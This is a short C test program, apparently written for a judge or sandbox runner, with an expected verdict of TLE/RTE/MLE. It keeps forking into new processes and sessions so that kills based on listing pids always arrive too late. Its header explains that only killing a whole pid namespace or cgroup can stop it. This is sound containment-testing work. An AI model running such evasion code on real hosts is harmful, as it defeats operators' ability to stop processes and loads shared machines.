/* SPDX-License-Identifier: MIT */
/*
 * attack: moves into a new process and session each moment, so that no list of pids is current.
 * expect: TLE RTE MLE
 * why: Killing a process that was found by listing always comes too late. The kill must be atomic:
 *      the end of a pid namespace or of a cgroup. On a busy host the kernel may fall behind with the stacks
 *      of processes that have ended, which count as memory until then.
 */
#define _GNU_SOURCE
#include <unistd.h>

int main(void)
{
    pid_t first = getpid();

    for (;;) {
        pid_t child = fork();

        if (child == 0) {
            setsid();
            continue;
        }
        if (getpid() == first)
            for (;;)
                pause();
        if (child > 0)
            _exit(0);
    }
}
